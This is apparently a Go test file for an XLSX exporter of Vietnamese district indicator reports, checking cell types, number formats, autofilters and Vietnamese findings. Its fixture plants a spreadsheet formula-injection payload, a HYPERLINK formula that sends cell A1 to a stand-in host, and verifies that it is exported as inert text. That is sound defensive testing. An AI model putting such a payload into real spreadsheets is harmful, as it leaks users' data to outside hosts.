package corpus

import (
	"bytes"
	"context"
	"os"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"
)

// hostileSeed writes seed 000 (Quận 5) into dir with a formula for the
// label of its first row and a rate (II/II/7, indicator 6.3) that its
// a/b contradicts, and returns the formula.
func hostileSeed(t *testing.T, dir string) string {
	t.Helper()
	b, err := os.ReadFile(filepath.Join(fixtures, "seed000.txt"))
	if err != nil {
		t.Fatal(err)
	}
	const (
		formula = `=HYPERLINK("http://x.example/?leak="&A1,"bấm vào đây")`
		label   = "Quyết định thành lập Ban chỉ đạo chuyển đổi số của đơn vị"
	)
	text := string(b)
	if !strings.Contains(text, label) || !strings.Contains(text, "\t78.23 %\t") {
		t.Fatal("seed000.txt no longer holds the rows the test changes")
	}
	text = strings.Replace(text, label, formula, 1)
	text = strings.Replace(text, "\t78.23 %\t", "\t88.23 %\t", 1)
	write(t, filepath.Join(dir, "hostile.txt"), []byte(text))
	return formula
}

// TestXLSXCells reads the Vietnamese workbook back with excelize as
// Excel would see it: blank cells absent (not empty strings, on which
// =M7/N7 gives #VALUE!), numbers as number cells with number formats
// (0.00% for rates, #,##0 for counts, 0.00 for points and totals),
// formula-looking text as a string cell, an autofilter on every sheet,
// indicator names beside the ids, "no data" told from an earned 0, the
// findings with their Vietnamese messages and a sheet per unit.
func TestXLSXCells(t *testing.T) {
	dir := t.TempDir()
	formula := hostileSeed(t, dir)
	for _, ext := range []string{".txt", ".docx"} {
		copyFile(t, filepath.Join(fixtures, "seed001"+ext), filepath.Join(dir, "seed001"+ext))
	}
	s := openT(t, filepath.Join(t.TempDir(), "chiso.db"))
	ingest(t, s, 1, dir)
	var b bytes.Buffer
	if err := s.ExportXLSX(context.Background(), &b, Vietnamese); err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenReader(&b, excelize.Options{RawCellValue: true})
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	numFmt := func(sheet, cell string) int {
		t.Helper()
		id, err := f.GetCellStyle(sheet, cell)
		if err != nil {
			t.Fatal(err)
		}
		st, err := f.GetStyle(id)
		if err != nil {
			t.Fatal(err)
		}
		return st.NumFmt
	}
	cellType := func(sheet, cell string) excelize.CellType {
		t.Helper()
		ct, err := f.GetCellType(sheet, cell)
		if err != nil {
			t.Fatal(err)
		}
		return ct
	}
	isString := func(ct excelize.CellType) bool {
		return ct == excelize.CellTypeSharedString || ct == excelize.CellTypeInlineString || ct == excelize.CellTypeFormula
	}
	filtered := map[string]bool{}
	for _, d := range f.GetDefinedName() {
		if d.Name == "_xlnm._FilterDatabase" {
			filtered[d.Scope] = true
		}
	}

	// The long table.
	long := Vietnamese.LongSheet
	rows, err := f.GetRows(long)
	if err != nil {
		t.Fatal(err)
	}
	blanks, sawRate, sawFormula := 0, false, false
	for i, row := range rows[1:] {
		y := i + 2
		for x := range Header {
			cell, _ := excelize.CoordinatesToCellName(x+1, y)
			v := ""
			if x < len(row) {
				v = row[x]
			}
			if v == "" {
				blanks++
				if isString(cellType(long, cell)) {
					t.Fatalf("%s!%s is an empty string cell, want no cell", long, cell)
				}
			}
		}
		if row[8] == formula {
			sawFormula = true
			if fm, _ := f.GetCellFormula(long, "I"+strconv.Itoa(y)); fm != "" || !isString(cellType(long, "I"+strconv.Itoa(y))) {
				t.Errorf("%s!I%d: formula %q, type %v; want the label as a string cell", long, y, fm, cellType(long, "I"+strconv.Itoa(y)))
			}
		}
		if row[0] == "Quận 5" && row[5] == "II/II/7" {
			sawRate = true
			for _, c := range []struct {
				col, want string
				fmt       int
			}{{"K", "0.8823", fmtPercent2}, {"M", "11781", fmtThousands}, {"N", "15060", fmtThousands}} {
				cell := c.col + strconv.Itoa(y)
				got, _ := f.GetCellValue(long, cell)
				if got != c.want || cellType(long, cell) != excelize.CellTypeUnset || numFmt(long, cell) != c.fmt {
					t.Errorf("%s!%s = %q (type %v, format %d), want the number %s in format %d",
						long, cell, got, cellType(long, cell), numFmt(long, cell), c.want, c.fmt)
				}
			}
			if row[9] != "tỷ lệ (%)" {
				t.Errorf("%s!J%d: kind %q, want it in Vietnamese", long, y, row[9])
			}
		}
	}
	if blanks == 0 || !sawRate || !sawFormula {
		t.Errorf("long table: %d blank cells, rate row found %v, formula row found %v", blanks, sawRate, sawFormula)
	}
	for _, sh := range []string{long, Vietnamese.FindingsSheet} {
		if tbls, err := f.GetTables(sh); err != nil || len(tbls) != 1 {
			t.Errorf("sheet %q: tables %v (%v), want one with an autofilter", sh, tbls, err)
		}
	}

	// The period sheet of seed 001 (quý III năm 2023, Quận Bình Tân).
	q3 := "9 tháng-2023" // seed 000, "9 tháng đầu năm 2023"
	rows, err = f.GetRows(q3)
	if err != nil {
		t.Fatal(err)
	}
	if !filtered[q3] {
		t.Errorf("sheet %q has no autofilter", q3)
	}
	if numFmt(q3, "D2") != fmtDecimal2 {
		t.Errorf("%s!D2 (total) has format %d, want %d", q3, numFmt(q3, "D2"), fmtDecimal2)
	}
	var named, noData, earned, flagged int
	comments, err := f.GetComments(q3)
	if err != nil {
		t.Fatal(err)
	}
	noteOf := map[string]string{}
	for _, c := range comments {
		var b strings.Builder
		for _, p := range c.Paragraph {
			b.WriteString(p.Text)
		}
		noteOf[c.Cell] = b.String()
	}
	for x := len(Vietnamese.Period); x < len(rows[0]); x++ {
		id, name, _ := strings.Cut(rows[0][x], " ")
		if name != "" && id != "" {
			named++
		}
		cell, _ := excelize.CoordinatesToCellName(x+1, 2)
		v := ""
		if x < len(rows[1]) {
			v = rows[1][x]
		}
		switch n := noteOf[cell]; {
		case v == "" && n == Vietnamese.NoData:
			noData++
		case v == "":
		case n != "":
			flagged++
			if numFmt(q3, cell) != fmtDecimal2 {
				t.Errorf("%s!%s: points in format %d", q3, cell, numFmt(q3, cell))
			}
		case v == "0":
			earned++
		}
	}
	if named != len(rows[0])-len(Vietnamese.Period) || noData == 0 || earned == 0 || flagged == 0 {
		t.Errorf("sheet %q: %d of %d indicators named, %d no-data cells, %d earned 0, %d with findings",
			q3, named, len(rows[0])-len(Vietnamese.Period), noData, earned, flagged)
	}

	// The findings, in Vietnamese.
	rows, err = f.GetRows(Vietnamese.FindingsSheet)
	if err != nil || len(rows) < 2 || !slices.Equal(rows[0], Vietnamese.Findings) {
		t.Fatalf("findings sheet: %v, %d rows", err, len(rows))
	}
	for _, row := range rows[1:] {
		if !slices.Contains([]string{"lỗi", "cảnh báo", "thông tin"}, row[4]) || len(row) < 7 || row[6] == "" {
			t.Errorf("finding %q: want a Vietnamese severity and a message", row)
		}
	}
	if !slices.ContainsFunc(rows, func(r []string) bool {
		return r[5] == "tỷ lệ không khớp a/b" && strings.HasPrefix(r[6], "tỷ lệ báo cáo 88,23% nhưng a/b")
	}) {
		t.Error("no rate_mismatch, with its message in Vietnamese, among the findings")
	}

	// The sheet to send back to Quận 5.
	unit := Vietnamese.UnitSheet + "Quận 5"
	rows, err = f.GetRows(unit)
	if err != nil || len(rows) < 3 || !strings.HasPrefix(rows[0][0], "Quận 5") || !slices.Equal(rows[1], Vietnamese.Unit) {
		t.Fatalf("sheet %q: %v, starts %q", unit, err, rows[:min(2, len(rows))])
	}
	if !filtered[unit] {
		t.Errorf("sheet %q has no autofilter", unit)
	}
	if slices.Contains(f.GetSheetList(), "data") {
		t.Errorf("sheets %q: one is still named data", f.GetSheetList())
	}
}
